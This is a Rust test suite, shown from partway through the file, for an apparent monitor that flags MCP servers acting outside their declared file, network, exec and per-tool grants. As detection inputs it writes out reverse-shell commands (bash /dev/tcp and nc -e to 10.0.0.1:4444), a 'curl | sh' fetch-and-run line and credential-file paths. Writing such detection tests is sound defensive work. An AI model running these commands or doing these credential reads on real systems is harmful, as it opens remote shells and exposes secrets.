        Activity::Exec(ExecActivity {
            filename: path.into(),
            argv: a.to_vec(),
            ..Default::default()
        })
    }

    fn open(path: &str, write: bool, result: i64) -> Activity {
        Activity::File(FileActivity {
            op: FileOp::Open,
            path: path.into(),
            path2: None,
            read: !write,
            write,
            create: write,
            truncate: false,
            append: false,
            directory: false,
            result,
            path_truncated: false,
        })
    }

    fn connect(addr: &str, port: u16, hostname: Option<&str>) -> Activity {
        Activity::Net(NetActivity {
            op: NetOp::Connect,
            proto: Proto::Tcp,
            addr: Some(addr.parse().unwrap()),
            port,
            unix_path: None,
            hostname: hostname.map(str::to_owned),
            exposed: false,
            result: 0,
        })
    }

    fn rules(f: &[Finding]) -> Vec<&'static str> {
        f.iter().map(|f| f.rule.id).collect()
    }

    const NODE: &[&str] = &[
        "node",
        "/srv/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js",
        "/data/projects",
    ];

    #[test]
    fn files_against_globs_tilde_and_arguments() {
        let (mut s, ctx) = server(
            r#"{"args": {"roots": {"from": "server-filesystem/dist/index\\.js$"}},
                "read": ["${roots}", "~/notes/*.md"], "write": ["${roots}/out/**"]}"#,
            NODE,
        );
        let mut check = |a: Activity| rules(&s.evaluate(&ctx, &a));
        assert!(
            check(open("/data/projects/a/b.txt", false, 3)).is_empty(),
            "argument-bound root"
        );
        assert!(
            check(open("/home/u/notes/x.md", false, 3)).is_empty(),
            "~ is the owner's home"
        );
        assert_eq!(
            check(open("/home/u/notes/sub/x.md", false, 3)),
            ["file.read_undeclared"]
        );
        assert!(check(open("/data/projects/out/r.txt", true, 3)).is_empty());
        assert_eq!(
            check(open("/data/projects/a.txt", true, 3)),
            ["file.write_undeclared"],
            "read-only part"
        );
        assert_eq!(check(open("/etc/hostname", false, 3)), ["file.read_undeclared"]);
        assert!(
            check(open("/etc/hostname", false, -2)).is_empty(),
            "a failed open touched nothing"
        );
        // The Node baseline: package tree, libraries, locale, certificates, own /proc.
        for p in [
            "/srv/node_modules/zod/lib/index.js",
            "/usr/lib/x86_64-linux-gnu/libstdc++.so.6",
            "/etc/ssl/certs/ca-certificates.crt",
            "/proc/11/maps",
            "/proc/self/status",
            "/dev/null",
        ] {
            assert!(check(open(p, false, 3)).is_empty(), "{p}");
        }
        // Listing the directories on the way to a declared one.
        let dir = Activity::File(FileActivity {
            directory: true,
            ..match open("/data", false, 3) {
                Activity::File(f) => f,
                _ => unreachable!(),
            }
        });
        assert!(check(dir).is_empty());
    }

    #[test]
    fn credentials_need_an_explicit_declaration() {
        let (mut s, ctx) = server(r#"{"read": ["/home/u", "/srv/app/.env"]}"#, NODE);
        let f = s.evaluate(&ctx, &open("/home/u/.ssh/id_rsa", false, 3));
        assert_eq!(rules(&f), ["cred.ssh"], "a broad ~ does not declare keys");
        assert_eq!(f[0].rule.severity, crate::alerts::Severity::High);
        assert_eq!(f[0].evidence["path"], "/home/u/.ssh/id_rsa");
        assert_eq!(f[0].declared.as_ref().unwrap()["read"][0], "/home/u");
        assert_eq!(
            rules(&s.evaluate(&ctx, &open("/tmp/fake/.aws/credentials", false, -2))),
            ["cred.cloud"],
            "probing counts even when the open fails"
        );
        assert!(
            s.evaluate(&ctx, &open("/srv/app/.env", false, 3)).is_empty(),
            "named explicitly"
        );
        assert_eq!(
            rules(&s.evaluate(&ctx, &open("/home/u/.bash_history", true, 3))),
            ["cred.shell_history"]
        );
    }

    #[test]
    fn npm_reads_its_own_npmrc_but_the_server_may_not() {
        let (mut s, mut ctx) = server("{}", &["npx", "-y", "@modelcontextprotocol/server-memory"]);
        ctx.exe = "/usr/bin/node".into();
        ctx.argv = argv(&["node", "/usr/bin/npx", "-y", "@modelcontextprotocol/server-memory"]);
        assert!(s.evaluate(&ctx, &open("/home/u/.npmrc", false, -2)).is_empty());
        ctx.argv = argv(&["node", "/srv/node_modules/.bin/mcp-server-memory"]);
        assert_eq!(
            rules(&s.evaluate(&ctx, &open("/home/u/.npmrc", false, 3))),
            ["cred.npmrc"]
        );
    }

    #[test]
    fn network_hosts_suffixes_ports_and_pairs() {
        let (mut s, ctx) = server(
            r#"{"network": {"outbound": {"allow_host": [".github.com", "10.0.0.0/8", "localhost:5432"], "allow_port": [443]}}}"#,
            NODE,
        );
        let mut check = |a: Activity| rules(&s.evaluate(&ctx, &a));
        assert!(check(connect("140.82.112.3", 443, Some("api.github.com"))).is_empty());
        assert_eq!(
            check(connect("140.82.112.3", 80, Some("api.github.com"))),
            ["net.connect_undeclared"]
        );
        assert_eq!(
            check(connect("140.82.112.3", 443, Some("github.com.evil.io"))),
            ["net.connect_undeclared"]
        );
        assert!(check(connect("10.1.2.3", 443, None)).is_empty());
        assert!(check(connect("127.0.0.1", 5432, None)).is_empty(), "host:port pair");
        assert!(check(connect("::ffff:127.0.0.1", 5432, None)).is_empty(), "IPv4-mapped");
        assert_eq!(check(connect("127.0.0.1", 6379, None)), ["net.connect_undeclared"]);
        assert!(
            check(connect("127.0.0.53", 53, None)).is_empty(),
            "DNS to the local resolver"
        );
        let unix = Activity::Net(NetActivity {
            op: NetOp::Connect,
            proto: Proto::Other,
            addr: None,
            port: 0,
            unix_path: Some("/run/docker.sock".into()),
            hostname: None,
            exposed: false,
            result: 0,
        });
        assert_eq!(check(unix), ["net.connect_undeclared"]);
        let (mut all, ctx) = server(r#"{"network": {"outbound": {"insecure_allow_all": true}}}"#, NODE);
        assert!(all.evaluate(&ctx, &connect("1.2.3.4", 4444, None)).is_empty());
    }

    #[test]
    fn listening() {
        let (mut s, ctx) = server(r#"{"listen": ["127.0.0.1:8080"]}"#, NODE);
        let listen = |addr: &str, port: u16| {
            Activity::Net(NetActivity {
                op: NetOp::Listen,
                proto: Proto::Tcp,
                addr: Some(addr.parse().unwrap()),
                port,
                unix_path: None,
                hostname: None,
                exposed: false,
                result: 0,
            })
        };
        assert!(s.evaluate(&ctx, &listen("127.0.0.1", 8080)).is_empty());
        assert_eq!(
            rules(&s.evaluate(&ctx, &listen("127.0.0.1", 9000))),
            ["net.listen_undeclared"]
        );
        let f = s.evaluate(&ctx, &listen("0.0.0.0", 8080));
        assert_eq!(rules(&f), ["net.listen_exposed"]);
        assert_eq!(f[0].rule.severity, crate::alerts::Severity::High);
    }

    #[test]
    fn exec_rules() {
        let (mut s, ctx) = server(
            r#"{"exec": ["git", "/opt/tools/*"]}"#,
            &["/v/bin/python", "-m", "mcp_server_git"],
        );
        let mut check = |path: &str, a: &[&str]| rules(&s.evaluate(&ctx, &exec(path, &argv(a))));
        assert!(check("/usr/bin/git", &["git", "status"]).is_empty(), "by name");
        assert!(check("/opt/tools/x", &["x"]).is_empty(), "by path glob");
        assert!(
            check("/v/bin/python3", &["python3", "-c", "pass"]).is_empty(),
            "the Python runtime"
        );
        assert_eq!(
            check("/usr/bin/node", &["node", "-e", "1"]),
            ["exec.undeclared"],
            "not a runtime it launched with"
        );
        assert_eq!(check("/usr/bin/curl", &["curl", "x"]), ["exec.undeclared"]);
        assert_eq!(check("/usr/bin/bash", &["bash", "-c", "ls"]), ["exec.shell"]);
        assert_eq!(
            check(
                "/usr/bin/bash",
                &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]
            ),
            ["exec.reverse_shell"]
        );
        assert_eq!(
            check("/usr/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]),
            ["exec.reverse_shell"]
        );
        let fileless = Activity::Exec(ExecActivity {
            filename: "/proc/self/fd/3".into(),
            fileless: true,
            ..Default::default()
        });
        assert_eq!(rules(&s.evaluate(&ctx, &fileless)), ["exec.fileless"]);
        let socket_shell = Activity::Exec(ExecActivity {
            filename: "/bin/sh".into(),
            argv: argv(&["/bin/sh", "-i"]),
            stdio: [Some(StdioKind::Socket), Some(StdioKind::Socket), Some(StdioKind::Pipe)],
            ..Default::default()
        });
        let f = s.evaluate(&ctx, &socket_shell);
        assert_eq!(rules(&f), ["exec.reverse_shell"]);
        assert_eq!(f[0].evidence["stdio"], json!(["socket", "socket", "pipe"]));
    }

    #[test]
    fn write_then_exec_from_file_events_and_the_kernel_flag() {
        let (mut s, ctx) = server(r#"{"write": ["/tmp/work"], "exec": ["sh"]}"#, NODE);
        assert!(s.evaluate(&ctx, &open("/tmp/work/run.sh", true, 4)).is_empty());
        let f = s.evaluate(&ctx, &exec("/tmp/work/run.sh", &argv(&["/tmp/work/run.sh"])));
        assert_eq!(rules(&f), ["exec.write_then_exec"]);
        let f = s.evaluate(&ctx, &exec("/bin/sh", &argv(&["sh", "/tmp/work/run.sh"])));
        assert_eq!(rules(&f), ["exec.write_then_exec"], "a written script given to a shell");
        let flagged = Activity::Exec(ExecActivity {
            filename: "/tmp/other".into(),
            argv: argv(&["/tmp/other"]),
            written_by_server: true,
            ..Default::default()
        });
        assert_eq!(rules(&s.evaluate(&ctx, &flagged)), ["exec.write_then_exec"]);
    }

    #[test]
    fn npx_runs_bins_through_sh_c_without_alert() {
        let (mut s, mut ctx) = server("{}", &["npx", "-y", "@modelcontextprotocol/server-memory"]);
        ctx.ancestry = vec![(10, "/usr/bin/node".into())];
        ctx.parent_argv = argv(&["node", "/usr/bin/npx", "-y", "@modelcontextprotocol/server-memory"]);
        let f = s.evaluate(&ctx, &exec("/bin/sh", &argv(&["sh", "-c", "mcp-server-memory"])));
        assert!(f.is_empty(), "{f:?}");
        let f = s.evaluate(&ctx, &exec("/bin/sh", &argv(&["sh", "-c", "curl http://x | sh"])));
        assert_eq!(rules(&f), ["exec.shell"]);
        let env_node = Activity::Exec(ExecActivity {
            filename: "/srv/node_modules/.bin/mcp-server-memory".into(),
            interp: Some("/usr/bin/env".into()),
            argv: argv(&["/usr/bin/env", "node", "/srv/node_modules/.bin/mcp-server-memory"]),
            ..Default::default()
        });
        assert!(s.evaluate(&ctx, &env_node).is_empty(), "#!/usr/bin/env node");
    }

    /// `ctx` during call `id` of `tool`.
    fn during(ctx: &ProcContext, tool: &str, id: &str) -> ProcContext {
        ProcContext {
            tool: Some(tool.into()),
            call_id: Some(id.into()),
            ..ctx.clone()
        }
    }

    const NARROWED: &str = r#"{
        "read": ["/data"], "write": ["/data"], "exec": ["git"],
        "network": {"outbound": {"allow_host": [".github.com:443", "localhost:5432"]}},
        "tools": {
          "read_file": {"write": []},
          "peek": {"read": ["/data/public"], "write": []},
          "notes": {"read": ["/data/notes"], "write": ["/data/notes"]},
          "status": {"exec": []},
          "search": {"network": {"outbound": {"allow_host": ["api.github.com:443"]},
                                 "inbound": {"allow_host": ["127.0.0.1"]}}}
        }}"#;

    #[test]
    fn a_tools_narrowed_file_grant_replaces_the_servers_during_its_calls() {
        let (mut s, ctx) = server(NARROWED, NODE);
        let peek = during(&ctx, "peek", "7");
        let f = s.evaluate(&peek, &open("/data/secret.txt", false, 3));
        assert_eq!(rules(&f), ["tool.read_outside_grant"]);
        let peek_key = f[0].dedup_key.clone();
        assert_eq!(f[0].summary, "srv read outside tool `peek`'s grant: /data/secret.txt");
        assert_eq!(
            f[0].declared,
            Some(json!({"read": ["/data/public"], "write": [], "tool": "peek"}))
        );
        assert!(s.evaluate(&peek, &open("/data/public/a.txt", false, 3)).is_empty());
        assert!(
            s.evaluate(&peek, &open("/usr/lib/x86_64-linux-gnu/libc.so.6", false, 3))
                .is_empty(),
            "the baseline still applies"
        );
        // The same read by a tool with the server-wide read, by a tool the
        // manifest does not name, and outside any call.
        let read_file = during(&ctx, "read_file", "8");
        assert!(s.evaluate(&read_file, &open("/data/secret.txt", false, 3)).is_empty());
        assert!(
            s.evaluate(&during(&ctx, "other", "9"), &open("/data/secret.txt", false, 3))
                .is_empty()
        );
        assert!(s.evaluate(&ctx, &open("/data/secret.txt", false, 3)).is_empty());
        // `write: []`: read_file may read, not write; the server may.
        let f = s.evaluate(&read_file, &open("/data/out.txt", true, 3));
        assert_eq!(rules(&f), ["tool.write_outside_grant"]);
        assert!(
            f[0].summary.contains("wrote outside tool `read_file`'s grant"),
            "{}",
            f[0].summary
        );
        assert!(s.evaluate(&ctx, &open("/data/out.txt", true, 3)).is_empty());
        // A tool narrowing both: its own directory only.
        let notes = during(&ctx, "notes", "10");
        let g = s.evaluate(&notes, &open("/data/secret.txt", false, 3));
        assert_eq!(rules(&g), ["tool.read_outside_grant"]);
        assert_ne!(peek_key, g[0].dedup_key, "one alert per tool, not a repeat of peek's");
        assert!(s.evaluate(&notes, &open("/data/notes/a.md", true, 3)).is_empty());
        assert_eq!(
            rules(&s.evaluate(&notes, &open("/data/b.md", true, 3))),
            ["tool.write_outside_grant"]
        );
        // Outside the server's grant too: the usual rule, with the tool's grant as declared.
        let f = s.evaluate(&peek, &open("/etc/hostname", false, 3));
        assert_eq!(rules(&f), ["file.read_undeclared"]);
        assert_eq!(f[0].declared.as_ref().unwrap()["tool"], "peek");
        // Listing the way to the narrowed directory is fine.
        let dir = Activity::File(FileActivity {
            directory: true,
            ..match open("/data", false, 3) {
                Activity::File(f) => f,
                _ => unreachable!(),
            }
        });
        assert!(s.evaluate(&peek, &dir).is_empty());
    }

    #[test]
    fn a_tools_narrowed_grant_covers_credentials_only_if_it_names_them() {
        let (mut s, ctx) = server(
            r#"{"read": ["/home/u/.ssh/config", "/data"], "tools": {"t": {"read": ["/data"]}}}"#,
            NODE,
        );
        assert!(s.evaluate(&ctx, &open("/home/u/.ssh/config", false, 3)).is_empty());
        let f = s.evaluate(&during(&ctx, "t", "1"), &open("/home/u/.ssh/config", false, 3));
        assert_eq!(rules(&f), ["tool.read_outside_grant"]);
        assert_eq!(f[0].evidence["credential"], "SSH keys and configuration");
        assert_eq!(
            rules(&s.evaluate(&during(&ctx, "t", "1"), &open("/home/u/.ssh/id_rsa", false, 3))),
            ["cred.ssh"]
        );
    }

    #[test]
    fn a_tools_narrowed_exec_and_network_grants() {
        let (mut s, ctx) = server(NARROWED, &["/v/bin/python", "-m", "mcp_server_git"]);
        let git = |a: &[&str]| exec("/usr/bin/git", &argv(a));
        let status = during(&ctx, "status", "3");
        let f = s.evaluate(&status, &git(&["git", "status"]));
        assert_eq!(rules(&f), ["tool.exec_outside_grant"]);
        assert_eq!(
            f[0].summary,
            "srv ran a program outside tool `status`'s grant: /usr/bin/git"
        );
        assert_eq!(f[0].declared.as_ref().unwrap()["tool"], "status");
        assert!(s.evaluate(&during(&ctx, "peek", "4"), &git(&["git", "log"])).is_empty());
        assert!(s.evaluate(&ctx, &git(&["git", "log"])).is_empty());
        assert_eq!(
            rules(&s.evaluate(&status, &exec("/bin/sh", &argv(&["sh", "-c", "id"])))),
            ["exec.shell"],
            "undeclared everywhere: the usual rule"
        );
        let search = during(&ctx, "search", "5");
        assert!(
            s.evaluate(&search, &connect("140.82.112.3", 443, Some("api.github.com")))
                .is_empty()
        );
        let f = s.evaluate(&search, &connect("127.0.0.1", 5432, None));
        assert_eq!(rules(&f), ["tool.net_outside_grant"]);
        assert_eq!(
            f[0].summary,
            "srv connected outside tool `search`'s grant: 127.0.0.1:5432"
        );
        assert_eq!(
            f[0].declared.as_ref().unwrap()["network"]["outbound"]["allow_host"],
            json!(["api.github.com:443"])
        );
        assert!(s.evaluate(&ctx, &connect("127.0.0.1", 5432, None)).is_empty());
        assert_eq!(
            rules(&s.evaluate(&search, &connect("1.2.3.4", 80, None))),
            ["net.connect_undeclared"]
        );
        let accept = |addr: &str| {
            Activity::Net(NetActivity {
                op: NetOp::Accept,
                proto: Proto::Tcp,
                addr: Some(addr.parse().unwrap()),
                port: 40000,
                unix_path: None,
                hostname: None,
                exposed: false,
                result: 0,
            })
        };
        assert!(s.evaluate(&search, &accept("127.0.0.1")).is_empty());
        assert_eq!(
            rules(&s.evaluate(&search, &accept("10.0.0.1"))),
            ["tool.net_outside_grant"]
        );
        assert!(
            s.evaluate(&ctx, &accept("10.0.0.1")).is_empty(),
            "server-wide: any peer"
        );
    }

    #[test]
    fn overlapping_calls_are_judged_against_every_grant_in_flight() {
        let (mut s, ctx) = server(NARROWED, NODE);
        let both = |tools: &[&str]| ProcContext {
            tools_in_flight: tools.iter().map(|t| t.to_string()).collect(),
            ..during(&ctx, tools[tools.len() - 1], "2")
        };
        // The most recent call is peek's, but read_file's (server-wide read) may have read it.
        assert!(
            s.evaluate(&both(&["read_file", "peek"]), &open("/data/secret.txt", false, 3))
                .is_empty()
        );
        // A tool the manifest does not narrow: the server's grant.
        assert!(
            s.evaluate(&both(&["other", "peek"]), &open("/data/secret.txt", false, 3))
                .is_empty()
        );
        let f = s.evaluate(&both(&["notes", "peek"]), &open("/data/secret.txt", false, 3));
        assert_eq!(rules(&f), ["tool.read_outside_grant"]);
        assert_eq!(
            f[0].summary,
            "srv read outside the grants of tools `notes`, `peek` (calls in flight): /data/secret.txt"
        );
        assert_eq!(f[0].declared.as_ref().unwrap()["tool"], "peek", "the attributed call's");
    }

    #[test]
    fn risky_operations() {
        let (mut s, ctx) = server("{}", NODE);
        let risky = |op, target_pid| Activity::Risky(RiskyActivity { op, target_pid });
        let f = s.evaluate(&ctx, &risky(RiskyOp::Ptrace, Some(999)));
        assert_eq!(rules(&f), ["proc.ptrace"]);
        assert_eq!(f[0].rule.mitre.unwrap().0, "T1055.008");
        assert_eq!(
            rules(&s.evaluate(&ctx, &risky(RiskyOp::ProcMem, Some(999)))),
            ["proc.memory"]
        );
        assert!(
            s.evaluate(&ctx, &risky(RiskyOp::ProcMem, Some(11))).is_empty(),
            "its own memory"
        );
        assert_eq!(
            rules(&s.evaluate(&ctx, &risky(RiskyOp::ProcEnviron, Some(1)))),
            ["proc.environ"]
        );
        assert_eq!(
            rules(&s.evaluate(&ctx, &risky(RiskyOp::InitModule, None))),
            ["priv.kernel_module"]
        );
        assert_eq!(rules(&s.evaluate(&ctx, &risky(RiskyOp::SetUid, None))), ["priv.setid"]);
        // The file open of another process's memory is left to the risky event.
        assert!(s.evaluate(&ctx, &open("/proc/999/mem", false, 3)).is_empty());
    }

    #[test]
    fn engine_binds_manifests_by_name_or_command_line_and_rebinds_on_reload() {
        let mut e = Engine::default();
        let git = manifest(r#"{"name": "git", "match": {"argv": ["mcp_server_git"]}, "exec": ["git"]}"#);
        e.set_manifests(vec![git]);
        assert!(!e.on_watch(
            "git",
            1,
            0,
            "/v/bin/python",
            &argv(&["python", "-m", "mcp_server_git"]),
            None
        ));
        assert!(!e.on_watch(
            "my-git",
            2,
            0,
            "/v/bin/python",
            &argv(&["python", "-m", "mcp_server_git"]),
            None
        ));
        assert!(
            e.on_watch("other", 3, 0, "/usr/bin/node", &argv(&["node", "x.js"]), None),
            "undeclared"
        );
        assert!(
            !e.on_watch("other", 4, 0, "/usr/bin/node", &argv(&["node", "x.js"]), None),
            "flagged once"
        );
        assert_eq!(e.server("my-git").unwrap().manifest.name, "git");
        assert!(e.server("other").unwrap().undeclared);
        e.set_manifests(vec![manifest(r#"{"name": "other"}"#)]);
        assert!(
            !e.server("other").unwrap().undeclared,
            "a manifest that appears applies at once"
        );
        assert!(
            e.server("git").unwrap().undeclared,
            "one that goes away leaves least privilege"
        );
    }
}
